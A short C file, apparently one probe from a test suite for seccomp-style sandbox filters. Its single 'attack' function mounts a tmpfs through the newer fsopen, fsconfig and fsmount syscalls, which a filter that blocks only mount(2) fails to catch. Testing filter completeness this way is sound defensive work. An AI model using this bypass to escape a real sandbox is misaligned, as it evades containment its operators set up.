/* A mount by the calls that came with Linux 5.2: a filter that knows mount(2) alone lets them pass. */
#include "attack.h"

static long attack(char **argv)
{
    (void)argv;
    long context = syscall(SYS_fsopen, "tmpfs", 0);
    if (context < 0)
        return -1;
    enum { CREATE = 6 };
    return syscall(SYS_fsconfig, context, CREATE, NULL, NULL, 0) < 0 ? -1 : syscall(SYS_fsmount, context, 0, 0);
}
